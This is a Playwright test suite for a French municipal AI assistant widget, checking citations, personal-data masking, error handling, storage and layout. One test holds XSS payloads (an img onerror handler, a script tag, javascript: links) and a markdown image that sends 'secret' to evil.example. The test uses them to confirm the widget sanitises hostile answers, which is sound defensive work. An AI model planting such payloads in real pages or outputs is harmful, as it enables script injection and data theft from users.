"""What a resident can do with the widget, in a real browser, under the strictest content policy."""

from __future__ import annotations

import base64
import gzip
import hashlib
import json
import re

import pytest
from playwright.sync_api import Browser, expect

from .double import SECOND, WIDGET, Double, Widget, about, answer, citation, events, refusal


def test_it_weighs_less_than_ten_kilobytes_and_the_rest_less_than_eight() -> None:
    assert len(gzip.compress(WIDGET.read_bytes(), 9)) < 10_000
    assert len(gzip.compress(SECOND.read_bytes(), 9)) < 8_000


def test_the_first_file_knows_the_bytes_of_the_second() -> None:
    digest = base64.b64encode(hashlib.sha256(SECOND.read_bytes()).digest()).decode()
    assert f"const MORE = 'sha256-{digest}'" in WIDGET.read_text(encoding="utf-8")


def test_the_second_file_comes_with_the_first_opening(widget: Widget) -> None:
    requests: list[str] = []
    widget.page.on("request", lambda request: requests.append(request.url))
    widget.visit()
    expect(widget.page.locator("assistant-pvd .launcher")).to_be_visible()
    assert [url for url in requests if "more" in url] == []
    widget.open().ask()
    assert len([url for url in requests if "more" in url]) == 1


@pytest.mark.parametrize("body", ["", "export const equip = () => { window.hurt = 1 }"])
def test_another_second_file_is_left_out(browser: Browser, double: Double, body: str) -> None:
    page = browser.new_page(locale="fr-FR")  # a refusal of the browser is no error of the page
    page.route(
        "**/assistant-pvd-more.js",
        lambda route: (
            route.fulfill(content_type="text/javascript", body=body) if body else route.abort()
        ),
    )
    widget = Widget(page, double).visit().open().send()
    expect(page.locator("assistant-pvd .answer")).to_have_attribute("data-outcome", "answered")
    assert "signée le 12 mai 2021" in widget.text(".text")
    page.get_by_role("button", name="Voir le passage 1").click()
    assert widget.text("mark >> nth=0") == citation()["quote"]
    assert page.evaluate("window.hurt") is None
    page.close()


def test_the_quote_is_marked_in_its_passage(widget: Widget) -> None:
    # 𝟏 is one code point and two UTF-16 units: counted wrong, the mark would slip by one.
    widget.visit().open().ask()
    button = widget.page.get_by_role(
        "button",
        name="Voir le passage 1 : Convention d’adhésion au programme Petites villes de demain",
    )
    expect(button).to_have_attribute("aria-expanded", "false")
    button.click()
    expect(button).to_have_attribute("aria-expanded", "true")
    assert widget.text("mark >> nth=0") == citation()["quote"]
    card = widget.page.locator("assistant-pvd .proof")
    expect(card.locator("blockquote")).to_have_text(citation()["passage"])
    told = card.inner_text()
    assert "Citation · Ville de Guichen Pont-Réan · 12 mai 2021" in told
    assert "Convention › Article 1" in told
    assert "page 12" in told
    opened = card.get_by_role("link", name="Ouvrir le document")
    assert opened.get_attribute("href") == "https://www.exemple.fr/convention.pdf#page=12"
    assert opened.get_attribute("rel") == "noopener noreferrer"
    inside = card.get_by_role("link", name="Voir le passage dans le document")
    assert inside.get_attribute("href") == (
        f"{widget.double.url}/passages/convention%231?debut={citation()['start']}"
        f"&fin={citation()['end']}"
    )
    expect(opened).to_have_accessible_name(re.compile(r"\(nouvelle fenêtre\)$"))
    button.click()
    expect(button).to_have_attribute("aria-expanded", "false")


def test_on_a_phone_a_passage_opens_under_its_sentence_and_leads_back(
    browser: Browser, double: Double
) -> None:
    context = browser.new_context(
        viewport={"width": 390, "height": 664}, is_mobile=True, has_touch=True, locale="fr-FR"
    )
    double.says(answer(*[(f"Voici la phrase {number}.", [1, 2]) for number in range(30)]))
    widget = Widget(context.new_page(), double).visit().open().ask()
    button = widget.page.get_by_role("button", name="Voir le passage 2").nth(20)
    button.tap()
    proof = widget.page.locator("assistant-pvd .sentence .proof")
    expect(proof).to_be_in_viewport()
    below = proof.evaluate(
        """(proof) => proof.getBoundingClientRect().top
          - proof.closest('.sentence').querySelector('.last').getBoundingClientRect().bottom"""
    )
    assert 0 <= below < 20
    assert proof.locator("mark").inner_text() == "Le programme a été lancé le 1er octobre 2020."
    proof.get_by_role("button", name="Revenir à la réponse").tap()
    expect(proof).to_have_count(0)
    expect(button).to_be_focused()
    expect(button).to_be_in_viewport(ratio=1)
    expect(button).to_have_attribute("aria-expanded", "false")
    context.close()


def test_a_remark_is_in_the_language_of_the_answer_around_the_words_quoted(widget: Widget) -> None:
    quoted = "La convention s’est terminée en 2026."
    remark = "(Assistant's note: ended.)"
    told = {"text": quoted, "citations": [1], "language": "fr", "remark": remark}
    widget.double.says(answer(language="en", text=f"{quoted} {remark}", sentences=[told]))
    widget.visit().open().ask()
    text = widget.page.locator("assistant-pvd .text")
    expect(text).to_have_attribute("lang", "en")
    expect(text.locator("[lang=fr]")).to_contain_text(quoted)
    expect(text.locator("[lang=fr] .remark")).to_have_count(0)
    expect(text.locator(".remark")).to_have_text(remark)
    assert widget.text(".text").count(remark) == 1


def test_an_open_passage_stays_open_while_the_answer_goes_on(widget: Widget) -> None:
    begun = events(answer())
    second = begun.index(b"event: sentence", begun.index(b"event: sentence") + 1)
    widget.double.streams(begun[:second], holds=True)
    widget.visit().open().send()
    widget.page.get_by_role("button", name="Voir le passage 1").click()
    widget.double.chunks.append(begun[second:])
    widget.double.holds = False
    widget.page.get_by_role("button", name="Copier", exact=True).wait_for()
    expect(widget.page.locator("assistant-pvd .proof mark")).to_have_text(citation()["quote"])


def test_a_summary_names_its_sources(widget: Widget) -> None:
    widget.visit().open().ask()
    widget.page.get_by_role("button", name="Voir le passage 2").click()
    card = widget.page.locator("assistant-pvd .proof")
    told = (card.text_content() or "").replace("\u00a0", " ")
    assert "Résumé établi par nos soins d’après : ANCT, La Gazette · novembre 2026" in told
    assert "– ANCT : lancement du programme (nouvelle fenêtre), 1er octobre 2020" in told
    assert "– La Gazette : Guichen retenue (presse), décembre 2020" in told
    assert [link.get_attribute("href") for link in card.get_by_role("link").all()] == [
        "https://agence.exemple.fr/pvd",
        f"{widget.double.url}/passages/convention%232?debut=0&fin=45",
    ]


@pytest.mark.parametrize(
    ("given", "shown"),
    [
        ("2020-10-01", "1er octobre 2020"),
        ("2023-05 à 2024-01", "mai 2023 à janvier 2024"),
        ("2019-09-19, 2020-2021", "19 septembre 2019, 2020-2021"),
        ("2026-11-12T08:30:00Z", "12 novembre 2026"),
        ("2025-2026", "2025-2026"),
        ("en vigueur", "en vigueur"),
    ],
)
def test_dates_are_written_as_one_says_them(widget: Widget, given: str, shown: str) -> None:
    widget.double.says(answer(citations=[citation(date=given), citation(2)]))
    widget.visit().open().ask()
    widget.page.get_by_role("button", name="Voir le passage 1").click()
    expect(widget.page.locator("assistant-pvd .proof > .named .small")).to_have_text(
        f"Citation · Ville de Guichen Pont-Réan · {shown}"
    )


def test_a_misplaced_quote_is_not_marked(widget: Widget) -> None:
    widget.double.says(answer(citations=[citation(start=3), citation(2)]))
    widget.visit().open().ask()
    widget.page.get_by_role("button", name="Voir le passage 1").click()
    expect(widget.page.locator("assistant-pvd .proof blockquote")).to_be_visible()
    expect(widget.page.locator("assistant-pvd .proof mark")).to_have_count(0)


def test_all_of_the_text_is_shown(widget: Widget) -> None:
    # Words of the text that are in no sentence stand where the text has them.
    text = "Ce n’est pas publié.\n\nLa date est inconnue. Demandez à la mairie."
    widget.double.says(answer(("La date est inconnue.", [1]), text=text, outcome="not_published"))
    widget.visit().open().ask()
    assert widget.text(".text").replace("\u00a0", " ") == (
        "Ce n’est pas publié.\n\nLa date est inconnue.1 Demandez à la mairie."
    )
    assert widget.text(".answer .who >> nth=1") == "Ce n’est pas publié"


def test_a_list_is_a_list(widget: Widget) -> None:
    said = answer(
        ("Deux aides existent :", [1]), ("l’isolation ;", [1]), ("le toit.", [2]), ("Voilà.", [2])
    )
    befores = (" ", "\n- ", "\n- ", "\n")
    said["sentences"] = [
        {**sentence, "before": before}
        for sentence, before in zip(said["sentences"], befores, strict=True)
    ]
    said["text"] = "".join(s["before"] + s["text"] for s in said["sentences"]).strip()
    widget.double.says(said)
    widget.visit().open().ask()
    shown = widget.page.locator("assistant-pvd .text")
    assert shown.locator("ul > li").all_inner_texts() == ["– l’isolation ;1", "– le toit.2"]
    assert shown.inner_text().split("\n")[0] == "Deux aides existent :1"
    assert shown.inner_text().endswith("Voilà.2")
    shown.get_by_role("listitem").last.get_by_role("button").click()
    assert shown.locator("li:last-child .proof").count() == 1


def test_a_refusal_names_who_to_ask_and_sets_the_nearest_apart(widget: Widget) -> None:
    widget.double.says(refusal())
    widget.visit().open().ask()
    node = widget.page.locator("assistant-pvd .answer")
    told = (node.text_content() or "").replace("\u00a0", " ")
    assert "Je ne peux pas traiter de données personnelles." in told
    assert "À qui s’adresser : Accueil de la mairie (nouvelle fenêtre)" in told
    assert "Vérifié le 1er novembre 2026" in told
    assert node.get_by_role("link", name="Appeler : 02 99 00 00 00").get_attribute("href") == (
        "tel:0299000000"
    )
    write = node.get_by_role("link", name="Écrire à accueil@exemple.fr")
    assert write.get_attribute("href") == "mailto:accueil@exemple.fr"
    assert "Passages proches, qui ne répondent pas à la question :" in told
    near = widget.page.locator("assistant-pvd .answer details")
    expect(near).to_have_count(1)
    assert near.get_attribute("open") is None
    expect(near.locator("mark")).to_have_count(0)
    assert node.get_attribute("data-outcome") == "refused_personal_data"
    assert node.get_attribute("data-ai-generated") == "true"


def test_the_turns_before_go_with_the_question(widget: Widget) -> None:
    widget.visit().open().ask("Une première question ?").ask("Et ensuite ?")
    first, second = widget.double.asked
    assert (first["question"], first["history"]) == ("Une première question ?", [])
    assert second["history"] == [
        {"role": "user", "content": "Une première question ?"},
        {"role": "assistant", "content": answer()["text"]},
    ]


def test_a_follow_up_travels_as_it_was_made_to_stand_alone(widget: Widget) -> None:
    alone = "la convention ORT : combien d’actions ?"
    widget.double.says(answer(question=alone))
    widget.visit().open().ask("Combien d’actions ?").ask("Et ensuite ?")
    assert widget.double.asked[1]["history"][0] == {"role": "user", "content": alone}


def test_personal_data_does_not_travel_twice(widget: Widget) -> None:
    widget.double.says(refusal())
    widget.visit().open().ask("Je m’appelle Jeanne Martin").ask("Et ensuite ?")
    assert widget.double.asked[1]["history"] == []


def test_what_was_masked_is_shown_copied_printed_and_kept_nowhere(widget: Widget) -> None:
    typed = "Je suis Jeanne Martin, 06 12 34 56 78, quand ?"
    masked = "Je suis [nom masqué], [téléphone masqué], quand ?"
    widget.double.says(answer(asked=masked, notice="J'ai masqué un nom."))
    widget.page.context.grant_permissions(["clipboard-read", "clipboard-write"])
    widget.page.add_init_script(
        "window.print = () => { top.printed = document.body.innerText; "
        "window.dispatchEvent(new Event('afterprint')) }"
    )
    widget.visit().open().ask(typed)
    assert widget.text(".asked") == masked
    widget.page.get_by_role("button", name="La garder pendant ma visite").click()
    widget.page.get_by_role("button", name="Copier la conversation").click()
    expect(widget.page.get_by_text("C’est copié.")).to_be_visible()
    widget.page.get_by_role("button", name="Imprimer la conversation").click()
    widget.page.wait_for_function("window.printed")
    for told in (
        widget.page.evaluate("navigator.clipboard.readText()"),
        widget.page.evaluate("window.printed"),
        widget.page.evaluate("JSON.stringify({...sessionStorage})"),
        widget.page.locator("assistant-pvd").evaluate("(each) => each.shadowRoot.textContent"),
    ):
        assert "[nom masqué]" in told and "Martin" not in told and "06 12" not in told
    widget.ask("Et ensuite ?")
    assert widget.double.asked[-1]["history"][0] == {"role": "user", "content": masked}


def test_what_was_masked_leaves_the_bubble_before_the_answer_comes(widget: Widget) -> None:
    widget.double.streams(
        b'event: masked\ndata: {"asked": "Je suis [nom masqu\xc3\xa9]"}\n\n', holds=True
    )
    widget.visit().open().send("Je suis Jeanne Martin")
    expect(widget.page.locator("assistant-pvd .asked")).to_have_text("Je suis [nom masqué]")


def test_at_most_ten_turns_of_2000_characters_are_sent(widget: Widget) -> None:
    widget.double.says(answer(("é" * 2100, [])))
    widget.visit().open()
    for turn in range(7):
        widget.ask(f"Question {turn}")
    history = widget.double.asked[-1]["history"]
    assert len(history) == 10
    assert history[0] == {"role": "user", "content": "Question 1"}
    assert history[1] == {"role": "assistant", "content": "é" * 2000}


def test_a_new_conversation_forgets_the_last(widget: Widget) -> None:
    widget.visit().open().ask()
    again = widget.page.get_by_role("button", name="Nouvelle conversation")
    again.click()
    widget.page.get_by_role("button", name="La garder", exact=True).click()
    expect(again).to_be_focused()
    expect(widget.page.locator("assistant-pvd .answer")).to_have_count(1)
    again.click()
    expect(widget.page.get_by_role("group", name="Effacer cette conversation ?")).to_be_visible()
    widget.page.get_by_role("button", name="Effacer").click()
    expect(widget.page.locator("assistant-pvd .log li")).to_have_count(0)
    expect(again).to_be_hidden()
    assert widget.focused() == "textarea.field"
    widget.ask("Et ensuite ?")
    assert widget.double.asked[-1]["history"] == []


def test_the_request_carries_nothing_about_the_visitor(widget: Widget) -> None:
    widget.page.context.add_cookies([{"name": "a", "value": "b", "url": widget.double.url}])
    widget.visit().open().ask()
    headers = widget.double.asked[0]["headers"]
    assert "cookie" not in headers
    assert headers["referer"] == f"{widget.double.url}/"  # the origin alone
    assert headers["accept"] == "text/event-stream"


@pytest.mark.parametrize("status", [422, 429, 503])
def test_an_error_shows_its_reason_and_keeps_the_question(widget: Widget, status: int) -> None:
    detail = "Trop de questions à la fois."
    body = {"type": "about:blank", "title": "Erreur", "status": status, "detail": detail}
    widget.double.sends(status, "application/problem+json", body)
    widget.visit().open()
    heard = widget.page.evaluate_handle(
        "() => { const all = []; document.addEventListener('pvd-error', (event) => "
        "all.push(event.detail)); return all }"
    )
    widget.send("Une question ?")
    alert = widget.page.get_by_role("alert")
    expect(alert).to_have_text("Trop de questions à la fois. Votre question est gardée ci-dessous.")
    assert widget.page.get_by_label("Votre question").input_value() == "Une question ?"
    expect(widget.page.locator("assistant-pvd .log li")).to_have_count(0)
    assert heard.json_value() == [{"status": status}]


@pytest.mark.parametrize(
    ("content_type", "body"),
    [
        ("text/html", "<h1>502 Bad Gateway</h1>"),  # a proxy's own page
        ("application/json", {"detail": [{"loc": ["body"]}]}),  # a framework's own error
    ],
)
def test_an_error_without_a_sentence_gets_ours(
    widget: Widget, content_type: str, body: object
) -> None:
    widget.double.sends(502, content_type, body)
    widget.visit().open().send()
    expect(widget.page.get_by_role("alert")).to_contain_text("indisponible pour le moment")


def test_an_error_in_the_stream_is_told(widget: Widget) -> None:
    problem = json.dumps({"status": 503, "detail": "La recherche a échoué."})
    widget.double.streams(f"event: error\ndata: {problem}\n\n".encode())
    widget.visit().open().send()
    expect(widget.page.get_by_role("alert")).to_contain_text("La recherche a échoué.")


def test_a_network_failure_keeps_the_question(widget: Widget) -> None:
    widget.visit().open()
    widget.page.route("**/api/**", lambda route: route.abort())
    widget.send("Une question ?")
    expect(widget.page.get_by_role("alert")).to_contain_text("L’assistant n’a pas pu être joint.")
    assert widget.page.get_by_label("Votre question").input_value() == "Une question ?"
    widget.page.unroute("**/api/**")
    widget.page.keyboard.press("Enter")
    widget.page.get_by_role("button", name="Copier", exact=True).wait_for()
    assert widget.text(".alert") == ""


def test_without_internet_the_reader_is_told_so_and_tries_again(widget: Widget) -> None:
    widget.visit().open().equipped()
    widget.page.context.set_offline(True)
    widget.send("Une question ?")
    expect(widget.page.get_by_role("alert")).to_contain_text("plus connecté à Internet")
    widget.page.context.set_offline(False)
    widget.page.get_by_role("button", name="Réessayer").click()
    widget.page.get_by_role("button", name="Copier", exact=True).wait_for()
    expect(widget.page.get_by_role("button", name="Réessayer")).to_have_count(0)
    assert widget.focused() == "textarea.field"
    assert widget.double.asked[0]["question"] == "Une question ?"


def test_a_server_that_is_down_is_said_to_be(widget: Widget) -> None:
    widget.visit().open().equipped()
    for path in ("**/api/**", "**/healthz"):
        widget.page.route(path, lambda route: route.abort())
    widget.send()
    expect(widget.page.get_by_role("alert")).to_contain_text("serveur de l’assistant ne répond pas")


def test_a_site_that_the_server_refuses_is_told_and_the_console_says_what_to_set(
    browser: Browser, double: Double
) -> None:
    # Another origin: the double, like a server that does not list it, sends it no CORS header.
    server = double.url.replace("127.0.0.1", "localhost")
    page = browser.new_page(locale="fr-FR", bypass_csp=True)
    told: list[str] = []
    page.on("console", lambda message: told.append(message.text))
    widget = Widget(page, double).visit(f"server={server}").open().equipped().send()
    expect(page.get_by_role("alert")).to_contain_text("Ce site n’est pas autorisé")
    expect(page.get_by_role("button", name="Réessayer")).to_be_visible()
    assert widget.double.asked == []
    assert [text for text in told if "ASSISTANT_ORIGINS" in text] == [
        f"assistant-pvd : {server} refuse {double.url}. "
        f"Sur le serveur : ASSISTANT_ORIGINS='[\"{double.url}\"]'"
    ]
    page.close()


def test_a_stream_cut_by_the_network_is_tried_again(widget: Widget) -> None:
    whole = events(answer())
    widget.double.streams(whole[: whole.index(b"event: done")], holds=True)
    widget.visit().open().send()
    expect(widget.page.locator("assistant-pvd .text")).to_contain_text("signée")
    widget.page.context.set_offline(True)
    widget.double.breaks = True
    expect(widget.page.get_by_role("alert")).to_contain_text("interrompue avant la fin")
    widget.page.context.set_offline(False)
    widget.double.says(answer())
    widget.page.get_by_role("button", name="Réessayer").click()
    widget.page.get_by_role("button", name="Copier", exact=True).wait_for()
    expect(widget.page.locator("assistant-pvd .answer")).to_have_count(1)


def test_silence_ends_the_wait(widget: Widget) -> None:
    widget.double.streams(b": ping\n\n", holds=True)
    widget.page.clock.install()
    widget.visit().open().send()
    expect(widget.page.get_by_role("button", name="Arrêter")).to_be_visible()
    assert widget.double.left.wait(0.2) is False
    widget.page.clock.run_for(45_500)
    expect(widget.page.get_by_role("alert")).to_contain_text("trop de temps")
    assert widget.double.left.wait(5)


def test_a_cut_stream_keeps_what_was_shown_and_says_so(widget: Widget) -> None:
    whole = events(answer())
    widget.double.streams(whole[: whole.index(b"event: done")])
    widget.visit().open().send("Une question ?")
    expect(widget.page.get_by_role("alert")).to_contain_text("interrompue avant la fin")
    assert "La convention d’adhésion a été signée" in widget.text(".answer")
    assert widget.page.get_by_label("Votre question").input_value() == "Une question ?"


def test_stop_ends_the_request(widget: Widget) -> None:
    whole = events(answer())
    widget.double.streams(whole[: whole.index(b"event: done")], holds=True)
    widget.visit().open().send()
    expect(widget.page.locator("assistant-pvd .text")).to_contain_text("signée")
    stop = widget.page.get_by_role("button", name="Arrêter")
    stop.focus()
    widget.page.keyboard.press("Enter")
    expect(stop).to_be_hidden()
    assert widget.double.left.wait(5)
    assert widget.text(".answer").endswith("Réponse arrêtée.")
    assert widget.focused() == "textarea.field"
    expect(widget.page.get_by_role("alert")).to_have_text("")
    widget.double.says(answer())
    widget.ask("Et ensuite ?")
    assert widget.double.asked[-1]["history"] == []


@pytest.mark.parametrize("every", [1, 11, 64])
def test_bytes_may_be_cut_anywhere(widget: Widget, every: int) -> None:
    # 11 bytes fall within names, within JSON and within é (two bytes) and 𝟏 (four).
    widget.double.says(answer(), every=every)
    widget.visit().open().ask()
    assert "La convention d’adhésion a été signée le 12 mai 2021." in widget.text(".text")
    widget.page.get_by_role("button", name="Voir le passage 1").click()
    assert widget.text("mark >> nth=0") == citation()["quote"]


def test_crlf_and_a_json_body_are_understood(widget: Widget) -> None:
    widget.double.streams(events(answer()).replace(b"\n", b"\r\n"), every=11)
    widget.visit().open().ask()
    widget.double.sends(200, "application/json; charset=utf-8", answer())
    widget.ask("Et ensuite ?")
    first, second = widget.page.locator("assistant-pvd .text").all_inner_texts()
    assert first == second


def test_a_replacement_replaces_what_was_shown(widget: Widget) -> None:
    final = answer(("Seule la signature est datée.", [1]))
    begun = events(answer())
    replace = {"sentences": final["sentences"]}
    widget.double.streams(
        begun[: begun.index(b"event: done")]
        + f"event: replace\ndata: {json.dumps(replace)}\n\n".encode()
        + events(final)[events(final).index(b"event: done") :]
    )
    widget.visit().open().ask()
    assert widget.text(".text") == "Seule la signature est datée.1"


HOSTILE = '<img src=x onerror="window.hurt=1"><script>window.hurt=1</script>'


def test_a_hostile_answer_is_only_text(widget: Widget) -> None:
    text = f"{HOSTILE} ![i](https://evil.example/p.gif?d=secret) [clic](javascript:alert(1))"
    bad = citation(
        title=HOSTILE, publisher=HOSTILE, passage=HOSTILE, url="javascript:window.hurt=1",
        passage_id=f"../../{HOSTILE}",
    )  # fmt: skip
    source = {
        "publisher": HOSTILE,
        "title": HOSTILE,
        "url": " javascript:window.hurt=1",
        "date": HOSTILE,
        "licence": "",
        "nature": HOSTILE,
    }
    bad_summary = citation(2, kind="summary", sources=[source], url="data:text/html,x")
    widget.double.says(
        answer(
            (text, [1, 2]),
            citations=[bad, bad_summary],
            nearest=[bad],
            contact={
                "name": HOSTILE,
                "url": "javascript:window.hurt=1",
                **dict.fromkeys(["phone", "email", "address", "hours", "checked"], HOSTILE),
            },
        )
    )
    requests: list[str] = []
    widget.visit().open()
    widget.page.on("request", lambda request: requests.append(request.url))
    widget.ask()
    for button in widget.page.get_by_role("button", name="Voir le passage").all():
        button.click()
    panel = widget.page.locator("assistant-pvd .panel")
    expect(panel.locator("img, script")).to_have_count(0)
    links = panel.locator("a").all()
    assert {(link.get_attribute("href") or "").split("%")[0] for link in links} == {
        f"{widget.double.url}/passages/..", f"{widget.double.url}/passages/convention"
    }  # fmt: skip
    assert widget.text(".text").startswith('<img src=x onerror="window.hurt=1">')
    assert widget.page.evaluate("window.hurt") is None
    assert {url.removeprefix(widget.double.url) for url in requests} <= {
        "/api/v1/about",
        "/api/v1/answers",
        "/widget/assistant-pvd-more.js",
    }


def test_nothing_is_stored_and_no_other_host_is_called(widget: Widget) -> None:
    stored = """async () => JSON.stringify([{...localStorage}, {...sessionStorage},
      document.cookie, await caches.keys(), await indexedDB.databases()])"""
    hosts: set[str] = set()
    widget.page.on("request", lambda request: hosts.add(request.url.split("/")[2]))
    widget.visit()
    before = widget.page.evaluate(stored)
    widget.open().ask()
    widget.page.get_by_role("button", name="Voir le passage 1").click()
    assert before == widget.page.evaluate(stored) == '[{},{},"",[],[]]'
    assert hosts == {widget.double.url.removeprefix("http://")}


def test_the_server_may_end_with_a_slash(widget: Widget) -> None:
    widget.visit(f"server={widget.double.url}/").open().ask()
    assert len(widget.double.asked) == 1


def test_a_page_may_include_the_script_twice(widget: Widget) -> None:
    widget.visit(twice="1").open().ask()
    expect(widget.page.get_by_role("dialog")).to_have_count(1)


def test_without_script_the_link_of_the_page_is_there(widget: Widget) -> None:
    widget.page.route("**/assistant-pvd.js", lambda route: route.abort())
    widget.page.goto(widget.double.url)
    expect(widget.page.get_by_role("link", name="Poser une question")).to_be_visible()


def test_methods_events_and_openers(widget: Widget) -> None:
    widget.visit()
    heard = widget.page.evaluate_handle(
        """() => {
          const all = []
          for (const name of ['ready', 'open', 'close', 'question', 'answer', 'error']) {
            document.addEventListener('pvd-' + name, (event) => all.push([name, event.detail]))
          }
          return all
        }"""
    )
    opener = widget.page.get_by_role("button", name="Une question ?")
    opener.click()
    expect(widget.page.get_by_role("dialog")).to_be_visible()
    element = widget.page.locator("assistant-pvd")
    element.evaluate("(element) => element.close()")
    expect(opener).to_be_focused()
    element.evaluate("(element) => element.ask('Quand ?')")
    widget.page.get_by_role("button", name="Copier", exact=True).wait_for()
    element.evaluate("(element) => { element.reset(); element.close() }")
    expect(widget.page.get_by_role("dialog")).to_be_hidden()
    assert heard.json_value() == [
        ["open", None],
        ["close", None],
        ["open", None],
        ["question", None],
        ["answer", {"id": "a1", "outcome": "answered"}],
        ["close", None],
    ]


TRAP = """(style) => {
  const box = document.createElement('div')
  document.querySelector('main').append(box)
  Object.assign(box.style, { width: '200px', height: '40px', overflow: 'hidden', ...style })
  box.append(document.querySelector('assistant-pvd'))
}"""


@pytest.mark.parametrize(
    "style",
    [
        {"transform": "translateX(0)"},
        {"filter": "grayscale(0)"},
        {"position": "relative", "zIndex": "0", "contain": "paint"},
    ],
    ids=str,
)
@pytest.mark.parametrize("size", [(1280, 800), (390, 844)], ids=str)
def test_no_parent_cuts_it(widget: Widget, style: dict[str, str], size: tuple[int, int]) -> None:
    widget.page.set_viewport_size({"width": size[0], "height": size[1]})
    widget.visit()
    widget.page.evaluate(TRAP, style)
    launcher = widget.page.locator("assistant-pvd .launcher")
    expect(launcher).to_be_in_viewport(ratio=1)
    widget.page.wait_for_function(
        """() => {
          const root = document.querySelector('assistant-pvd').shadowRoot
          const { right, bottom, x, y } = root.querySelector('.launcher').getBoundingClientRect()
          return right === innerWidth - 16 && bottom === innerHeight - 16 &&
            root.elementFromPoint(x + 30, y + 20)?.matches('.launcher')
        }"""
    )
    widget.open().ask()
    panel = widget.page.get_by_role("dialog").bounding_box()
    assert panel is not None and panel["height"] > 300 and panel["width"] > 380
    expect(widget.page.get_by_label("Votre question")).to_be_in_viewport(ratio=1)
    assert widget.page.evaluate(
        """() => {
          const root = document.querySelector('assistant-pvd').shadowRoot
          const { x, y } = root.querySelector('.panel').getBoundingClientRect()
          return root.querySelector('.panel').contains(root.elementFromPoint(x + 40, y + 20))
        }"""
    )
    widget.page.get_by_role("button", name="Fermer l’assistant").click()
    expect(launcher).to_be_focused()


def test_a_browser_without_a_top_layer_opens_it_all_the_same(widget: Widget) -> None:
    widget.page.add_init_script("delete HTMLElement.prototype.showPopover")
    widget.visit().open().ask()
    expect(widget.page.get_by_role("dialog")).to_be_visible()
    widget.page.keyboard.press("Escape")
    expect(widget.page.get_by_role("dialog")).to_be_hidden()
    assert widget.focused() == "button.launcher"


@pytest.mark.parametrize(
    "change",
    [
        "document.querySelector('main').prepend(element)",
        "document.body.moveBefore ? document.body.moveBefore(element, null) : 0",
        "element.setAttribute('privacy-url', 'https://www.exemple.fr/donnees')",
        "element.setAttribute('lang', 'en')",
        "element.mode = 'inline'",
    ],
)
def test_a_move_or_a_change_keeps_the_conversation(widget: Widget, change: str) -> None:
    widget.visit().open().ask("Quand ?")
    widget.page.get_by_label("Votre question").fill("Et ensu")
    widget.page.locator("assistant-pvd").evaluate(f"(element) => {{ {change} }}")
    expect(widget.page.locator("assistant-pvd .text")).to_be_visible()  # still open
    field = widget.page.locator("assistant-pvd textarea")
    expect(field).to_have_value("Et ensu")
    field.fill("Et ensuite ?")
    field.press("Enter")
    expect(widget.page.locator("assistant-pvd .copy")).to_have_count(2)
    assert widget.double.asked[-1]["history"][0] == {"role": "user", "content": "Quand ?"}


def test_a_move_does_not_cut_an_answer(widget: Widget) -> None:
    begun = events(answer())
    done = begun.index(b"event: done")
    widget.double.streams(begun[:done], holds=True)
    widget.visit().open().send()
    expect(widget.page.locator("assistant-pvd .text")).to_contain_text("signée")
    widget.page.locator("assistant-pvd").evaluate(
        "(element) => { document.querySelector('main').prepend(element); element.lang = 'fr' }"
    )
    expect(widget.page.get_by_role("button", name="Arrêter")).to_be_visible()
    widget.double.chunks.append(begun[done:])
    widget.double.holds = False
    widget.page.get_by_role("button", name="Copier", exact=True).wait_for()
    expect(widget.page.get_by_role("button", name="Arrêter")).to_be_hidden()


def test_an_element_that_leaves_the_page_stops_asking(widget: Widget) -> None:
    widget.double.streams(b": ping\n\n", holds=True)
    widget.visit().open().send()
    expect(widget.page.get_by_role("button", name="Arrêter")).to_be_visible()
    widget.page.locator("assistant-pvd").evaluate("(element) => element.remove()")
    assert widget.double.left.wait(5)


def test_two_elements_of_a_page_do_not_collide(widget: Widget) -> None:
    widget.visit()
    widget.page.evaluate(
        """() => {
          const second = document.createElement('assistant-pvd')
          second.id = 'second'
          const opener = document.createElement('button')
          opener.append('La seconde')
          opener.dataset.pvdOpen = 'second'
          document.querySelector('main').append(second, opener)
        }"""
    )
    launcher = widget.page.get_by_role("button", name="Poser une question (IA)")
    expect(launcher).to_have_count(1)
    widget.page.get_by_role("button", name="Une question ?").click()
    expect(widget.page.locator("#second").get_by_role("dialog")).to_have_count(0)
    expect(widget.page.get_by_role("dialog")).to_have_count(1)
    widget.page.get_by_role("button", name="La seconde").click()
    expect(widget.page.get_by_role("dialog")).to_have_count(1)
    expect(widget.page.locator("#second").get_by_role("dialog")).to_be_visible()
    widget.page.keyboard.press("Escape")
    widget.page.locator("assistant-pvd").first.evaluate("(element) => { element.hidden = true }")
    expect(widget.page.locator("#second .launcher")).to_be_visible()
    widget.page.locator("assistant-pvd").first.evaluate("(element) => element.remove()")
    launcher.click()
    expect(widget.page.get_by_role("dialog")).to_be_visible()


STORED = "Object.keys(sessionStorage).concat(Object.keys(localStorage))"


def test_a_reader_may_keep_the_conversation_from_page_to_page(widget: Widget) -> None:
    page = widget.page
    widget.visit().open()
    expect(page.get_by_text("Votre navigateur n’enregistre rien")).to_be_visible()
    widget.ask("Quand ?")
    assert page.evaluate(STORED) == []
    keep = page.get_by_role("button", name="La garder pendant ma visite")
    keep.click()
    expect(keep).to_have_attribute("aria-pressed", "true")
    widget.ask("Et ensuite ?")
    widget.visit()
    expect(page.get_by_role("dialog")).to_be_hidden()  # nothing opens by itself
    widget.open()
    expect(page.locator("assistant-pvd .asked")).to_have_text(["Quand ?", "Et ensuite ?"])
    page.get_by_role("button", name="Voir le passage 1").last.click()
    assert widget.text(".proof mark") == citation()["quote"]
    widget.ask("Et puis ?")
    assert len(widget.double.asked[-1]["history"]) == 4
    page.get_by_role("button", name="Nouvelle conversation").click()
    page.get_by_role("button", name="Effacer").click()
    assert page.evaluate(STORED) == []
    widget.visit().open()
    expect(page.locator("assistant-pvd .asked")).to_have_count(0)


def test_a_reader_may_change_their_mind(widget: Widget) -> None:
    widget.visit().open().ask()
    keep = widget.page.get_by_role("button", name="La garder pendant ma visite")
    keep.click()
    keep.click()
    expect(keep).to_have_attribute("aria-pressed", "false")
    assert widget.page.evaluate(STORED) == []


def test_what_another_version_stored_is_dropped(widget: Widget) -> None:
    widget.visit()
    widget.page.evaluate("sessionStorage.setItem('assistant-pvd ', '[{\"question\":\"Quand ?\"}]')")
    widget.open().ask("Et ensuite ?")
    expect(widget.page.locator("assistant-pvd .asked")).to_have_text(["Et ensuite ?"])


def test_an_opinion_is_sent_with_its_reasons(widget: Widget) -> None:
    heard = widget.visit().page.evaluate_handle(
        "() => { const all = []; document.addEventListener('pvd-feedback', (event) => "
        "all.push(event.detail)); return all }"
    )
    widget.open().ask()
    group = widget.page.get_by_role("group", name="Cette réponse vous a-t-elle aidé ?")
